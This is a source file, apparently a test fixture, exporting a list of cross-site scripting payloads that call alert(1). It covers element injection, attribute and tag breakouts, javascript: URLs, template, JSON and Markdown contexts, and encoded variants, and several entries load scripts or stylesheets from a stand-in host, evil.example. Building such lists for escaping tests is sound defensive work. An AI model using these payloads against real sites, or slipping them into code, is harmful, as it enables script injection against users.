// Texts that become script, or break a page, where somebody forgot to escape; each in the form that one place of a
// document would need. All call alert(1) when they work, or carry the mark "xss" into the document.
const call = 'alert(1)';
export const payloads = [
  // An element.
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<script >${call}</script >`, `<script/x>${call}</script>`, `<scr<script>ipt>${call}</script>`,
  `<script src=data:,${call}></script>`, `<script src=//evil.example/x.js></script>`, `<script type=module>${call}</script>`,
  `<img src=x onerror=${call}>`, `<img src=x onerror="${call}"`, `<img/src=x/onerror=${call}>`, `<IMG SRC=x OnErRoR=${call}>`, `<img src=x onerror=${call}//`,
  `<svg onload=${call}>`, `<svg/onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<body onload=${call}>`, `<details open ontoggle=${call}>xss</details>`, `<input autofocus onfocus=${call}>`, `<video src=x onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`, `<iframe src=javascript:${call}></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data=javascript:${call}></object>`, `<embed src=javascript:${call}>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<form action=javascript:${call}><button xss autofocus>xss</button></form>`, `<math><mi xlink:href=javascript:${call}>xss</mi></math>`,
  `<style>@import "//evil.example/x.css";</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<xss id=x tabindex=1 onfocus=${call}></xss>`,
  `<marquee onstart=${call}>xss</marquee>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<template><script>${call}</script></template>`,
  // The end of where it stands.
  `"><script>${call}</script>`, `'><script>${call}</script>`, `"><img src=x onerror=${call}>`, `" onmouseover="${call}" xss="`, `' onmouseover='${call}' xss='`,
  `" autofocus onfocus="${call}`, `x onfocus=${call} autofocus xss=`, `\`><img src=x onerror=${call}>`, `</title><script>${call}</script>`, `</textarea><script>${call}</script>`,
  `</script><script>${call}</script>`, `</style><script>${call}</script>`, `--><script>${call}</script>`, `--!><img src=x onerror=${call}>`, `]]><script>${call}</script>`,
  `</select><img src=x onerror=${call}>`, `</option></select><svg onload=${call}>`, `</noscript><img src=x onerror=${call}>`, `</a><a href=javascript:${call}>xss</a>`,
  // An address.
  `javascript:${call}`, `JaVaScRiPt:${call}`, ` javascript:${call}`, `java\tscript:${call}`, `javascript&colon;${call}`, `javascript://x%0a${call}`, `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`, `//evil.example/x`, `/\\evil.example/x`, `https:evil.example`,
  // A script, a template, JSON, Markdown, other encodings.
  `';${call};//`, `";${call};//`, `\\";${call};//`, `\`;${call};//`, `\${${call}}`, `\u2028${call}//`, `{{X}}{{%AUTOESCAPE context="HTML"}}<img src=x onerror=${call}>`, `{{#X}}<script>${call}</script>{{/X}}`,
  `","xss":"<script>${call}</script>`, `{"@type":"</script><script>${call}</script>"}`, `[xss](javascript:${call})`, `![xss](javascript:${call})`, `<javascript:${call}>`,
  `[xss](<javascript:${call}> "x")`, `[xss]: javascript:${call}\n\n[xss]`, `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`, `%3Cscript%3E${call}%3C/script%3E`, `%253Cscript%253E${call}%253C/script%253E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`, `\u{ff1c}script\u{ff1e}${call}\u{ff1c}/script\u{ff1e}`, `\u202e<script>${call}</script>`,
];
